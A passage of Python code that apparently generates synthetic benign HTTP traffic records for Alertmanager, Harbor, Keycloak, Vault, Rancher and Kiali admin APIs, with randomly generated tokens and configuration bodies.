    an = pick(["KubePodCrashLooping", "KubeDeploymentReplicasMismatch", "HighErrorRatio", "PostgresReplicationLag", "CertificateExpiringSoon", "VaultSealed", "NodeFilesystemAlmostOutOfSpace", "ArgoAppOutOfSync"])
    expr = promql()
    return {"labels": {"alertname": an, "severity": pick(["critical", "warning", "info"]), "namespace": ns, "pod": "%s-%s-%s" % (app, rhex(9), rstr(5, LOWER_ALNUM)),
                       "container": app, "job": "kube-state-metrics", "prometheus": "monitoring/k8s", "cluster": pick(CLUSTERS)},
            "annotations": {"summary": "%s in %s" % (an, ns), "description": "Pod %s/%s (%s) is in waiting state (reason: \"CrashLoopBackOff\")." % (ns, app, app),
                            "runbook_url": "https://runbooks.prometheus-operator.dev/runbooks/kubernetes/%s" % an.lower()},
            "startsAt": iso_ts(), "endsAt": "0001-01-01T00:00:00Z",
            "generatorURL": "http://prometheus-k8s-0:9090/graph?g0.expr=%s&g0.tab=1" % quote_plus(expr)}


def gen_alertmanager(n):
    for i in range(n):
        host = host_for("alertmanager")
        k = i % 6
        if k == 0:
            body = dumps([am_alert() for _ in range(R.randint(1, 3))], "compact")
            B("alertmanager-alerts", "POST", "/api/v2/alerts", host, std_headers(pick(UA_PROMETHEUS), accept=None), body, "application/json")
        elif k == 1:
            matchers = [{"name": "alertname", "value": pick(["KubePodCrashLooping", "HighErrorRatio", "PostgresReplicationLag"]), "isRegex": False, "isEqual": True},
                        {"name": "namespace", "value": pick(["payments|checkout", "team-.*", "orders"]), "isRegex": True, "isEqual": True}]
            if chance(0.3):
                matchers.append({"name": "pod", "value": "canary-.+", "isRegex": True, "isEqual": False})
            body = dumps({"matchers": matchers, "startsAt": iso_ts(), "endsAt": iso_ts(7200), "createdBy": pick(USERS) + "@acme.io",
                          "comment": pick(["Maintenance: postgres failover; see INC-1234", "Known issue, fix in https://github.com/acme/cart-api/pull/812", "Node drain for kernel patch (CVE-2024-1086) — expect restarts", "Ruhezeit: Migration läuft"]),
                          "id": pick(["", ruuid()])})
            hdrs = browser_headers() if chance(0.5) else std_headers(pick(["amtool/0.27.0", "Grafana/10.4.2", "Go-http-client/1.1"]))
            B("alertmanager-silence", "POST", "/api/v2/silences", host, hdrs, body, "application/json")
        elif k == 2:
            p = [("filter", 'severity="critical"'), ("filter", 'namespace=~"pay.*"'), ("silenced", "false"), ("inhibited", "false"), ("active", "true")]
            B("alertmanager-query", "GET", pick(["/api/v2/alerts/groups?", "/api/v2/alerts?"]) + qs(p[:R.randint(1, 5)]), host, std_headers(pick(UA_BROWSERS + UA_GRAFANA + ["amtool/0.27.0"])))
        elif k == 3:
            B("alertmanager-query", pick(["GET", "DELETE"]), "/api/v2/silence/" + ruuid(), host, std_headers(pick(UA_BROWSERS + ["amtool/0.27.0"])))
        else:
            # webhook notifications that Alertmanager sends to receivers
            alerts = [am_alert() for _ in range(R.randint(1, 3))]
            for a in alerts:
                a["status"] = pick(["firing", "resolved"])
                a["fingerprint"] = rhex(16)
            common = {"alertname": alerts[0]["labels"]["alertname"], "severity": alerts[0]["labels"]["severity"]}
            gl = {"alertname": common["alertname"]}
            body = dumps({"receiver": pick(TEAMS) + "-webhook", "status": "firing", "alerts": alerts, "groupLabels": gl, "commonLabels": common, "commonAnnotations": {},
                          "externalURL": "http://alertmanager.acme.io", "version": "4",
                          "groupKey": "{}/{severity=~\"^(?:critical)$\"}:{alertname=\"%s\"}" % common["alertname"], "truncatedAlerts": 0}, "compact")
            rhost = pick(["alert-router.platform.svc.cluster.local:8080", "chatops-bot.platform.svc:3000", "alertmanager-msteams.monitoring.svc:2000", "signl4-bridge.sre.svc:8080", "jira-alerts.platform.svc.cluster.local"])
            path = pick(["/alertmanager", "/hooks/alertmanager", "/alertmanager/" + pick(TEAMS), "/api/v1/alerts", "/webhook"])
            hdrs = [("User-Agent", pick(UA_ALERTMANAGER))]
            if chance(0.5):
                hdrs.append(("Authorization", "Bearer " + rstr(40)))
            B("alertmanager-webhook", "POST", path, rhost, hdrs, body, "application/json")


# ===========================================================================
# BENIGN: Harbor
# ===========================================================================

def harbor_headers(accept="application/json"):
    r = R.random()
    if r < 0.45:
        return browser_headers(accept=accept, cookie="sid=%s; _gorilla_csrf=%s" % (rhex(32), rstr(88)), extra=[("X-Harbor-CSRF-Token", rstr(88, ALNUM + "+/") + "==")])
    if r < 0.8:
        return std_headers(pick(UA_TERRAFORM[2:] + UA_GO + UA_PY + ["harbor-cli/v0.0.1"]), auth="Basic " + b64("robot$%s+ci:%s" % (pick(TEAMS), rstr(32))), accept=accept)
    return std_headers(pick(["curl/8.5.0", "Go-http-client/1.1"]), auth="Basic " + b64("admin:" + rstr(20)), accept=accept)


def gen_harbor(n):
    for i in range(n):
        host = host_for("harbor")
        k = i % 8
        team = pick(TEAMS)
        if k == 0:
            body = dumps({"project_name": team + pick(["", "-mirror", "-charts"]), "metadata": {"public": "false", "auto_scan": "true", "severity": pick(["high", "critical"]), "prevent_vul": "true", "reuse_sys_cve_allowlist": "true", "enable_content_trust_cosign": pick(["true", "false"])},
                          "storage_limit": pick([-1, 107374182400]), "registry_id": pick([None, 2])})
            B("harbor-project", "POST", "/api/v2.0/projects", host, harbor_headers(), body, "application/json")
        elif k == 1:
            params = [("page", "1"), ("page_size", "15"), ("with_detail", "true")]
            q = pick(["name=~" + team[:4], "name=~cart,tags=(1.4.2 latest)", "push_time=[2024-04-01 00:00:00~2024-05-01 23:59:59]", "tags=~v1", "labels=(id:3 id:7)", "digest=sha256:" + rhex(64)])
            params.append(("q", q))
            if chance(0.5):
                params.append(("sort", pick(["-creation_time", "name", "-push_time"])))
            path = pick(["/api/v2.0/projects?", "/api/v2.0/projects/%s/repositories?" % team, "/api/v2.0/projects/%s/repositories/%s/artifacts?with_tag=true&with_scan_overview=true&with_label=true&" % (team, pick(APPS))])
            B("harbor-search", "GET", path + qs(params), host, harbor_headers())
        elif k == 2:
            level = pick(["project", "system"])
            if level == "project":
                perms = [{"kind": "project", "namespace": team, "access": [{"resource": "repository", "action": "push"}, {"resource": "repository", "action": "pull"},
                                                                            {"resource": "artifact", "action": "delete"}, {"resource": "tag", "action": "create"}, {"resource": "helm-chart", "action": "read"}]}]
            else:
                perms = [{"kind": "project", "namespace": "*", "access": [{"resource": "repository", "action": "pull"}, {"resource": "artifact", "action": "read"}]},
                         {"kind": "system", "namespace": "/", "access": [{"resource": "replication", "action": "create"}, {"resource": "scan-all", "action": "read"}]}]
            body = dumps({"name": pick(["ci-push", "argocd-pull", "trivy-scan", "mirror-sync"]), "description": "managed by terraform", "duration": pick([-1, 90, 365]), "level": level, "disable": False, "permissions": perms})
            B("harbor-robot", "POST", "/api/v2.0/robots", host, harbor_headers(), body, "application/json")
        elif k == 3:
            body = dumps({"name": "mirror-" + pick(["dockerhub", "quay", "ghcr"]), "src_registry": {"id": R.randint(1, 5)}, "dest_namespace": pick(["mirror", "library", team]), "dest_namespace_replace_count": 1,
                          "filters": [{"type": "name", "value": pick(["library/**", "bitnami/{postgresql,redis}", "prometheus/*"])}, {"type": "tag", "value": pick(["{1.2*,latest}", "v*", "**"])},
                                      {"type": "label", "value": "env=prod", "decoration": "matches"}],
                          "trigger": {"type": "scheduled", "trigger_settings": {"cron": pick(["0 0 2 * * *", "0 */30 * * * *"])}}, "override": True, "enabled": True, "speed": -1, "copy_by_chunk": False})
            B("harbor-replication", "POST", "/api/v2.0/replication/policies", host, harbor_headers(), body, "application/json")
        elif k == 4:
            reg = pick([{"name": "ecr-prod", "type": "aws-ecr", "url": "https://123456789012.dkr.ecr.eu-west-1.amazonaws.com", "credential": {"type": "basic", "access_key": "AKIA" + rstr(16, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"), "access_secret": rstr(40, ALNUM + "/+")}},
                        {"name": "dockerhub", "type": "docker-hub", "url": "https://hub.docker.com", "credential": {"type": "basic", "access_key": "acmebot", "access_secret": "dckr_pat_" + rstr(27)}},
                        {"name": "harbor-dr", "type": "harbor", "url": "https://harbor-dr.acme.io", "insecure": False, "credential": {"type": "basic", "access_key": "robot$replicator", "access_secret": rstr(32)}}])
            B("harbor-registry", "POST", "/api/v2.0/registries", host, harbor_headers(), dumps(reg), "application/json")
        elif k == 5:
            body = dumps({"name": pick(["Trivy-internal", "Trivy (air-gapped)"]), "description": "in-cluster adapter", "url": "http://harbor-trivy.harbor.svc.cluster.local:8080", "auth": pick(["", "Bearer"]),
                          "access_credential": pick(["", rstr(32)]), "skip_certVerify": False, "use_internal_addr": True, "disabled": False})
            B("harbor-scanner", "POST", "/api/v2.0/scanners", host, harbor_headers(), body, "application/json")
        elif k == 6:
            B("harbor-scan", "POST", "/api/v2.0/projects/%s/repositories/%s/artifacts/sha256:%s/scan" % (team, enc(pick(APPS) + pick(["", "/sidecar"]), safe=""), rhex(64)), host, harbor_headers(), dumps({"scan_type": pick(["vulnerability", "sbom"])}), "application/json")
        else:
            body = dumps({"name": "notify-argocd", "description": "push events to flux/argo", "enabled": True,
                          "event_types": ["PUSH_ARTIFACT", "SCANNING_COMPLETED", "SCANNING_FAILED"],
                          "targets": [{"type": "http", "address": pick(["http://notification-controller.flux-system.svc.cluster.local/hook/" + rhex(64), "http://argocd-image-updater.argocd.svc:8080/webhook?type=harbor", "https://hooks.ci.acme.io/harbor"]),
                                       "auth_header": "Bearer " + rstr(32), "skip_cert_verify": False, "payload_format": pick(["Default", "CloudEvents"])}]})
            B("harbor-webhook-policy", "POST", "/api/v2.0/projects/%s/webhook/policies" % team, host, harbor_headers(), body, "application/json")


# ===========================================================================
# BENIGN: Keycloak admin REST
# ===========================================================================

def kc_headers(accept="application/json, text/plain, */*"):
    tok = oidc_token(realm="master")
    if chance(0.6):
        return browser_headers(accept=accept, extra=[("Authorization", "Bearer " + tok)])
    return std_headers(pick(UA_KEYCLOAK_CLIENT + ["Terraform/1.8.2 (+https://www.terraform.io) Terraform-Plugin-SDK/2.33.0 terraform-provider-keycloak/4.4.0"]), auth="Bearer " + tok, accept="application/json")


LDAP_FILTERS = [
    "(&(objectCategory=person)(objectClass=user)(memberOf:1.2.840.113556.1.4.1941:=CN=k8s-users,OU=Groups,DC=corp,DC=acme,DC=io)(!(userAccountControl:1.2.840.113556.1.4.803:=2)))",
    "(&(objectClass=inetOrgPerson)(|(ou=engineering)(ou=sre)(ou=data)))",
    "(&(objectClass=posixAccount)(uidNumber>=10000)(!(loginShell=/sbin/nologin)))",
    "(|(memberOf=cn=platform-admins,ou=groups,dc=acme,dc=io)(memberOf=cn=developers,ou=groups,dc=acme,dc=io))",
    "(mail=*@acme.io)",
    "(&(objectClass=person)(employeeType=FTE)(!(description=*contractor*)))",
]


def gen_keycloak(n):
    for i in range(n):
        host = host_for("keycloak")
        realm = pick(["platform", "acme", "team-atlas", "master"])
        k = i % 9
        prefix = pick(["", "", "/auth"])
        if k == 0:
            grant = pick(["client_credentials", "password", "refresh_token", "urn:ietf:params:oauth:grant-type:token-exchange"])
            p = [("grant_type", grant), ("client_id", pick(["argocd", "grafana", "backstage", "vault-oidc", "headlamp"]))]
            if grant == "client_credentials":
                p.append(("client_secret", rstr(32)))
                p.append(("scope", "openid groups"))
            elif grant == "password":
                p += [("username", pick(USERS)), ("password", rstr(14, ALNUM + "!@#$%^&*()")), ("scope", "openid")]
            elif grant == "refresh_token":
                p.append(("refresh_token", jwt({"typ": "Refresh", "sub": ruuid()}, alg="HS256")))
            else:
                p += [("subject_token", oidc_token()), ("requested_token_type", "urn:ietf:params:oauth:token-type:access_token"), ("audience", "kubernetes")]
            B("keycloak-token", "POST", prefix + "/realms/%s/protocol/openid-connect/token" % realm, host,
              std_headers(pick(UA_GO + UA_PY + ["kubelogin/v1.28.0", "oauth2-proxy/v7.6.0", "Grafana/10.4.2"])), form(p), "application/x-www-form-urlencoded")
        elif k == 1:
            body = dumps({"realm": pick(["team-atlas", "partners", "staging"]), "enabled": True, "sslRequired": "external", "loginTheme": "acme", "registrationAllowed": False,
                          "passwordPolicy": "length(12) and upperCase(1) and digits(1) and specialChars(1) and notUsername(undefined) and passwordHistory(5) and regexPattern(^(?!.*acme).*$)",
                          "displayName": pick(["Team Atlas", "Partner-Portal (Zürich)", "ステージング"]), "displayNameHtml": "<div class=\"kc-logo-text\"><span>Acme</span></div>",
                          "smtpServer": {"host": "smtp.acme.io", "port": "587", "from": "no-reply@acme.io", "starttls": "true", "auth": "true", "user": "keycloak", "password": rstr(16)},
                          "attributes": {"frontendUrl": "https://sso.acme.io", "acr.loa.map": "{\"silver\":1,\"gold\":2}"}})
            B("keycloak-realm", "POST", prefix + "/admin/realms", host, kc_headers(), body, "application/json")
        elif k == 2:
            cid = pick(["grafana", "argocd", "backstage", "kiali", "harbor", "vault", "rancher", "headlamp", "oauth2-proxy-" + pick(TEAMS)])
            body = dumps({"clientId": cid, "name": cid.title(), "protocol": "openid-connect", "publicClient": cid in ("headlamp", "kiali"), "standardFlowEnabled": True, "directAccessGrantsEnabled": False,
                          "rootUrl": "https://%s.acme.io" % cid, "redirectUris": ["https://%s.acme.io/*" % cid, "https://%s.acme.io/login/generic_oauth" % cid, "http://localhost:8000/oauth2/callback"],
                          "webOrigins": ["+"], "attributes": {"post.logout.redirect.uris": "https://%s.acme.io/*##https://%s.acme.io/logout" % (cid, cid), "pkce.code.challenge.method": "S256", "access.token.lifespan": "300"},
                          "protocolMappers": [{"name": "groups", "protocol": "openid-connect", "protocolMapper": "oidc-group-membership-mapper", "config": {"claim.name": "groups", "full.path": "false", "id.token.claim": "true", "access.token.claim": "true"}},
                                              {"name": "audience", "protocol": "openid-connect", "protocolMapper": "oidc-audience-mapper", "config": {"included.client.audience": "kubernetes"}}]})
            B("keycloak-client", "POST", prefix + "/admin/realms/%s/clients" % realm, host, kc_headers(), body, "application/json")
        elif k in (3, 4):
            ad = rot("kc-ad", [True, False])
            cfg = {"vendor": ["ad" if ad else "other"], "connectionUrl": ["ldaps://dc01.corp.acme.io:636 ldaps://dc02.corp.acme.io:636" if ad else "ldap://openldap.identity.svc.cluster.local:389"],
                   "usersDn": ["OU=Users,DC=corp,DC=acme,DC=io" if ad else "ou=people,dc=acme,dc=io"],
                   "bindDn": ["CN=svc-keycloak,OU=Service Accounts,DC=corp,DC=acme,DC=io" if ad else "cn=keycloak,ou=services,dc=acme,dc=io"], "bindCredential": [rstr(20)],
                   "usernameLDAPAttribute": ["sAMAccountName" if ad else "uid"], "rdnLDAPAttribute": ["cn" if ad else "uid"], "uuidLDAPAttribute": ["objectGUID" if ad else "entryUUID"],
                   "userObjectClasses": ["person, organizationalPerson, user" if ad else "inetOrgPerson, organizationalPerson"],
                   "customUserSearchFilter": [LDAP_FILTERS[0] if ad else rot("ldapf", LDAP_FILTERS[1:])], "searchScope": ["2"], "editMode": ["READ_ONLY"], "authType": ["simple"], "startTls": ["false"],
                   "pagination": ["true"], "connectionPooling": ["true"], "useTruststoreSpi": ["always"], "batchSizeForSync": ["1000"], "fullSyncPeriod": ["604800"], "changedSyncPeriod": ["86400"],
                   "importEnabled": ["true"], "syncRegistrations": ["false"], "trustEmail": ["true"], "enabled": ["true"], "priority": ["0"], "krbPrincipalAttribute": ["userPrincipalName" if ad else "krb5PrincipalName"]}
            if k == 3:
                body = dumps({"name": "corp-ad" if ad else "openldap", "providerId": "ldap", "providerType": "org.keycloak.storage.UserStorageProvider", "parentId": realm, "config": cfg})
            else:
                body = dumps({"name": "groups", "providerId": "group-ldap-mapper", "providerType": "org.keycloak.storage.ldap.mappers.LDAPStorageMapper", "parentId": ruuid(),
                              "config": {"groups.dn": ["OU=Groups,DC=corp,DC=acme,DC=io"], "group.name.ldap.attribute": ["cn"], "group.object.classes": ["group"], "preserve.group.inheritance": ["false"],
                                         "membership.ldap.attribute": ["member"], "membership.attribute.type": ["DN"], "groups.ldap.filter": [pick(["(cn=k8s-*)", "(|(cn=platform-*)(cn=team-*))", "(&(objectClass=group)(!(cn=Domain*)))"])],
                                         "mode": ["READ_ONLY"], "user.roles.retrieve.strategy": ["LOAD_GROUPS_BY_MEMBER_ATTRIBUTE_RECURSIVELY"], "memberof.ldap.attribute": ["memberOf"]}})
            B("keycloak-ldap", "POST", prefix + "/admin/realms/%s/components" % realm, host, kc_headers(), body, "application/json")
        elif k == 5:
            body = dumps({"action": pick(["testConnection", "testAuthentication"]), "connectionUrl": "ldaps://dc01.corp.acme.io:636", "bindDn": "CN=svc-keycloak,OU=Service Accounts,DC=corp,DC=acme,DC=io",
                          "bindCredential": "**********", "useTruststoreSpi": "always", "connectionTimeout": "", "startTls": "", "authType": "simple", "componentId": ruuid()})
            B("keycloak-ldap", "POST", prefix + "/admin/realms/%s/testLDAPConnection" % realm, host, kc_headers(), body, "application/json")
        elif k == 6:
            search = pick(["kowalski", "priya.raman@acme.io", "kowal*", "Müller", "田中", "o'brien", "svc-", "\"Jane Doe\""])
            p = [("briefRepresentation", "true"), ("first", "0"), ("max", "20"), ("search", search)]
            if chance(0.3):
                p = [("q", "department:platform cost_center:4711"), ("first", "0"), ("max", "50")]
            B("keycloak-users", "GET", prefix + "/admin/realms/%s/users?%s" % (realm, qs(p)), host, kc_headers())
        elif k == 7:
            u = pick(USERS)
            body = dumps({"firstName": DISPLAY[u].split(" ")[0], "lastName": DISPLAY[u].split(" ")[-1], "email": u + "@acme.io", "emailVerified": True, "enabled": True,
                          "attributes": {"department": [pick(["SRE", "Platform", "Payments"])], "locale": [pick(["en", "de", "ja"])], "kubernetes_groups": ["developers"]},
                          "requiredActions": pick([[], ["CONFIGURE_TOTP"], ["UPDATE_PASSWORD"]])})
            B("keycloak-users", "PUT", prefix + "/admin/realms/%s/users/%s" % (realm, ruuid()), host, kc_headers(), body, "application/json")
        else:
            body = dumps({"alias": pick(["github", "corp-saml", "google"]), "providerId": pick(["github", "saml", "oidc"]), "enabled": True, "trustEmail": True, "firstBrokerLoginFlowAlias": "first broker login",
                          "config": {"clientId": rstr(20), "clientSecret": rstr(40), "syncMode": "IMPORT", "defaultScope": "openid email profile", "authorizationUrl": "https://login.microsoftonline.com/%s/oauth2/v2.0/authorize" % ruuid(),
                                     "tokenUrl": "https://login.microsoftonline.com/%s/oauth2/v2.0/token" % ruuid(), "jwksUrl": "https://login.microsoftonline.com/%s/discovery/v2.0/keys" % ruuid(), "validateSignature": "true", "useJwksUrl": "true"}})
            B("keycloak-idp", "POST", prefix + "/admin/realms/%s/identity-provider/instances" % realm, host, kc_headers(), body, "application/json")


# ===========================================================================
# BENIGN: Vault
# ===========================================================================

def vault_headers():
    h = [("User-Agent", pick(UA_VAULT + UA_TERRAFORM[1:2] + UA_PY)), ("X-Vault-Token", vault_token())]
    if chance(0.5):
        h.append(("X-Vault-Request", "true"))
    if chance(0.25):
        h.append(("X-Vault-Namespace", pick(["admin/", "admin/team-atlas/", "platform/"])))
    return h


def pem_cert():
    return "-----BEGIN CERTIFICATE-----\n" + "\n".join(b64(rbytes(48)) for _ in range(R.randint(8, 14))) + "\n-----END CERTIFICATE-----\n"


def gen_vault(n):
    for i in range(n):
        host = host_for("vault")
        ns = pick(NAMESPACES)
        app = pick(APPS)
        k = i % 12
        if k == 0:
            data = {"DB_PASSWORD": rstr(24, ALNUM + "!#%&*+-=?@^_"), "STRIPE_API_KEY": "sk_test_" + rstr(24), "JWT_SIGNING_KEY": b64(rbytes(32)),
                    "config.json": json.dumps({"featureFlags": {"newPricing": True}, "upstream": "http://pricing-engine.%s.svc:8080" % ns})}
            body = dumps({"data": data, "options": {"cas": R.randint(0, 9)}} if chance(0.6) else {"data": data})
            B("vault-kv", pick(["POST", "PUT"]), "/v1/secret/data/%s/%s" % (ns, app), host, vault_headers(), body, "application/json")
        elif k == 1:
            B("vault-kv", "GET", "/v1/secret/data/%s/%s%s" % (ns, app, pick(["", "?version=%d" % R.randint(1, 9)])), host, vault_headers())
        elif k == 2:
            B("vault-kv", pick(["LIST", "GET"]), "/v1/secret/metadata/%s%s" % (ns, pick(["", "/"])) + ("" if chance(0.5) else "?list=true"), host, vault_headers())
        elif k == 3:
            body = dumps({"role": app, "jwt": sa_token(ns, app)}, "compact")
            B("vault-auth", "POST", "/v1/auth/kubernetes/login", host, [("User-Agent", pick(["vault-k8s/1.4.1", "Vault Agent/1.15.6", "Go-http-client/1.1"]))], body, "application/json")
        elif k == 4:
            body = dumps({"kubernetes_host": "https://kubernetes.default.svc:443", "kubernetes_ca_cert": pem_cert(), "issuer": "https://kubernetes.default.svc.cluster.local",
                          "disable_local_ca_jwt": False, "token_reviewer_jwt": sa_token("vault", "vault-auth")})
            B("vault-auth", "POST", "/v1/auth/kubernetes/config", host, vault_headers(), body, "application/json")
        elif k == 5:
            body = dumps({"bound_service_account_names": [app, app + "-migrate"], "bound_service_account_namespaces": [ns], "policies": [app + "-read", "default"], "ttl": "1h", "audience": "vault",
                          "alias_name_source": "serviceaccount_name"})
            B("vault-auth", "POST", "/v1/auth/kubernetes/role/" + app, host, vault_headers(), body, "application/json")
        elif k == 6:
            policy = 'path "secret/data/%s/%s/*" {\n  capabilities = ["read", "list"]\n}\n\npath "database/creds/%s-ro" {\n  capabilities = ["read"]\n}\n\n# allow token self-renewal\npath "auth/token/renew-self" {\n  capabilities = ["update"]\n}\n\npath "secret/metadata/%s/+/config" {\n  capabilities = ["list"]\n  allowed_parameters = {\n    "*" = []\n  }\n}\n' % (ns, app, app, ns)
            B("vault-policy", "PUT", "/v1/sys/policies/acl/%s-read" % app, host, vault_headers(), dumps({"policy": policy}), "application/json")
        elif k == 7:
            engine = pick(["pg", "mysql", "mongo", "mssql"])
            if engine == "pg":
                cfg = {"plugin_name": "postgresql-database-plugin", "connection_url": "postgresql://{{username}}:{{password}}@%s-pg-rw.%s.svc.cluster.local:5432/%s?sslmode=require" % (app, ns, app.replace("-", "_")), "password_authentication": "scram-sha-256"}
            elif engine == "mysql":
                cfg = {"plugin_name": "mysql-database-plugin", "connection_url": "{{username}}:{{password}}@tcp(mysql-primary.%s.svc:3306)/" % ns, "max_open_connections": 5}
            elif engine == "mongo":
                cfg = {"plugin_name": "mongodb-database-plugin", "connection_url": "mongodb://{{username}}:{{password}}@mongo-0.mongo.%s.svc.cluster.local:27017,mongo-1.mongo.%s.svc.cluster.local:27017/admin?replicaSet=rs0&tls=true" % (ns, ns)}
            else:
                cfg = {"plugin_name": "mssql-database-plugin", "connection_url": "sqlserver://{{username}}:{{password}}@mssql.%s.svc:1433" % ns}
            cfg.update({"allowed_roles": "%s-ro,%s-rw" % (app, app), "username": "vault_admin", "password": rstr(24), "verify_connection": True})
            B("vault-database", "POST", "/v1/database/config/%s-%s" % (app, engine), host, vault_headers(), dumps(cfg), "application/json")
        elif k == 8:
            if chance(0.6):
                creation = ["CREATE ROLE \"{{name}}\" WITH LOGIN PASSWORD '{{password}}' VALID UNTIL '{{expiration}}';",
                            "GRANT SELECT ON ALL TABLES IN SCHEMA public TO \"{{name}}\";",
                            "ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT SELECT ON TABLES TO \"{{name}}\";"]
                revocation = ["REVOKE ALL PRIVILEGES ON ALL TABLES IN SCHEMA public FROM \"{{name}}\";", "DROP ROLE IF EXISTS \"{{name}}\";"]
            else:
                creation = ["CREATE USER '{{name}}'@'%' IDENTIFIED BY '{{password}}';", "GRANT SELECT, INSERT, UPDATE ON %s.* TO '{{name}}'@'%%';" % app.replace("-", "_")]
                revocation = ["DROP USER IF EXISTS '{{name}}'@'%';"]
            body = dumps({"db_name": "%s-pg" % app, "creation_statements": creation, "revocation_statements": revocation, "default_ttl": "1h", "max_ttl": "24h"})
            B("vault-database", "POST", "/v1/database/roles/%s-%s" % (app, pick(["ro", "rw"])), host, vault_headers(), body, "application/json")
        elif k == 9:
            if chance(0.5):
                B("vault-database", "GET", "/v1/database/creds/%s-ro" % app, host, vault_headers())
            else:
                body = dumps({"common_name": "%s.%s.svc.cluster.local" % (app, ns), "alt_names": "%s.%s.svc,%s,%s.%s" % (app, ns, app, app, ns), "ip_sans": "127.0.0.1", "ttl": "72h", "format": "pem"})
                B("vault-pki", "POST", "/v1/pki_int/issue/svc-cluster-local", host, vault_headers(), body, "application/json")
        elif k == 10:
            if chance(0.5):
                body = dumps({"plaintext": b64(json.dumps({"card_last4": str(R.randint(1000, 9999)), "tenant": pick(TEAMS)})), "context": b64(pick(TEAMS))})
                B("vault-transit", "POST", "/v1/transit/encrypt/" + pick(["orders", "pii", "tokens"]), host, vault_headers(), body, "application/json")
            else:
                B("vault-token", pick(["POST", "PUT"]), pick(["/v1/auth/token/renew-self", "/v1/sys/leases/renew"]), host, vault_headers(), dumps({"increment": pick(["1h", "3600", 3600])}), "application/json")
        else:
            B("vault-sys", "GET", pick(["/v1/sys/health?standbyok=true&perfstandbyok=true", "/v1/sys/seal-status", "/v1/sys/mounts", "/v1/sys/internal/ui/resultant-acl", "/v1/sys/leader"]), host,
              vault_headers() if chance(0.5) else [("User-Agent", pick(["kube-probe/1.29", "Go-http-client/1.1"]))])


# ===========================================================================
# BENIGN: Rancher, Kiali, Jaeger, Tempo
# ===========================================================================

def rancher_headers(accept="application/json"):
    tok = "token-%s:%s" % (rstr(5, LOWER_ALNUM), rstr(54, LOWER_ALNUM))
    if chance(0.6):
        return browser_headers(accept=accept, cookie="R_SESS=%s; R_PCS=dark; CSRF=%s" % (tok, rhex(10)), extra=[("X-Api-Csrf", rhex(10))])
    return std_headers(pick(["rancher-cli/v2.8.3", "Terraform/1.8.2 (+https://www.terraform.io) Terraform-Plugin-SDK/2.33.0 terraform-provider-rancher2/4.1.0", "kubectl/v1.29.3 (linux/amd64) kubernetes/6813625"]), auth="Bearer " + tok, accept=accept)


def gen_rancher(n):
    for i in range(n):
        host = host_for("rancher")
        cid = "c-m-" + rstr(8, LOWER_ALNUM)
        k = i % 5
        if k == 0:
            B("rancher-api", "GET", pick(["/v3/projects?clusterId=%s" % cid, "/v1/management.cattle.io.clusters?exclude=metadata.managedFields", "/v1/catalog.cattle.io.apps?exclude=metadata.managedFields",
                                        "/v3/clusters/%s/nodes?limit=-1&sort=hostname" % cid]), host, rancher_headers())
        elif k == 1:
            B("rancher-k8s-proxy", "GET", "/k8s/clusters/%s/api/v1/namespaces/%s/pods?%s" % (cid, pick(NAMESPACES), qs([("limit", "500"), ("labelSelector", "app.kubernetes.io/managed-by=Helm,release in (cart-api,orders)")])), host, rancher_headers())
        elif k == 2:
            body = dumps({"type": "projectRoleTemplateBinding", "roleTemplateId": pick(["project-member", "read-only", "project-owner"]), "projectId": "%s:p-%s" % (cid, rstr(5, LOWER_ALNUM)),
                          "userPrincipalId": "keycloakoidc_user://%s" % ruuid() if chance(0.5) else None, "groupPrincipalId": None if chance(0.5) else "keycloakoidc_group://" + pick(TEAMS)})
            B("rancher-rbac", "POST", "/v3/projectroletemplatebindings", host, rancher_headers(), body, "application/json")
        elif k == 3:
            B("rancher-api", "POST", "/v3/clusters/%s?action=generateKubeconfig" % cid, host, rancher_headers(), "", "application/json")
        else:
            body = dumps({"charts": [{"chartName": "rancher-monitoring", "version": "103.1.0+up45.31.1", "releaseName": "rancher-monitoring", "annotations": {"catalog.cattle.io/ui-source-repo": "rancher-charts"},
                                      "values": {"prometheus": {"prometheusSpec": {"remoteWrite": [{"url": "http://mimir-distributor.monitoring.svc.cluster.local:8080/api/v1/push", "headers": {"X-Scope-OrgID": pick(CLUSTERS)}}],
                                                                                   "retention": "10d", "additionalScrapeConfigs": [{"job_name": "blackbox", "metrics_path": "/probe", "params": {"module": ["http_2xx"]},
                                                                                                                                    "relabel_configs": [{"source_labels": ["__address__"], "target_label": "__param_target"}, {"target_label": "__address__", "replacement": "blackbox-exporter.monitoring.svc:9115"}]}]}}}}],
                          "noHooks": False, "timeout": "600s", "wait": True, "namespace": "cattle-monitoring-system", "projectId": "%s:p-%s" % (cid, rstr(5, LOWER_ALNUM))})
            B("rancher-apps", "POST", "/v1/catalog.cattle.io.clusterrepos/rancher-charts?action=install", host, rancher_headers(), body, "application/json")


def gen_kiali(n):
    for i in range(n):
        host = host_for("kiali")
        ns = pick(NAMESPACES)
        k = i % 4
        hdrs = browser_headers(cookie="kiali-token-aes=" + rstr(120, ALNUM + "_-"))
        if k == 0:
            p = [("duration", pick(["60s", "600s", "3600s"])), ("graphType", pick(["versionedApp", "workload", "service"])), ("injectServiceNodes", "true"), ("boxBy", "cluster,namespace,app"),
                 ("appenders", "deadNode,istio,serviceEntry,sidecarsCheck,workloadEntry,health"), ("rateGrpc", "requests"), ("rateHttp", "requests"), ("rateTcp", "sent"), ("namespaces", ",".join(R.sample(NAMESPACES, 2)))]
            B("kiali-graph", "GET", "/kiali/api/namespaces/graph?" + qs(p), host, hdrs)
        elif k == 1:
            B("kiali-api", "GET", pick(["/kiali/api/namespaces/%s/workloads/%s/health?rateInterval=60s" % (ns, pick(APPS)), "/kiali/api/istio/validations?namespaces=" + ns,
                                      "/kiali/api/namespaces/%s/apps/%s/metrics?%s" % (ns, pick(APPS), qs([("queryTime", str(ts_ms() // 1000)), ("duration", "1800"), ("step", "15"), ("rateInterval", "1m"), ("filters[]", "request_count"), ("filters[]", "request_error_count"), ("quantiles[]", "0.99"), ("direction", "inbound"), ("reporter", "destination")]))]), host, hdrs)
        elif k == 2:
            app = pick(APPS)
            vs = {"apiVersion": "networking.istio.io/v1beta1", "kind": "VirtualService", "metadata": {"name": app, "namespace": ns},
                  "spec": {"hosts": ["%s.%s.svc.cluster.local" % (app, ns)], "http": [{"match": [{"uri": {"regex": "^/api/v[0-9]+/orders/.*"}, "headers": {"x-canary": {"exact": "true"}}}],
                                                                                        "route": [{"destination": {"host": app, "subset": "v2"}}], "retries": {"attempts": 3, "perTryTimeout": "2s", "retryOn": "5xx,reset,connect-failure"}},
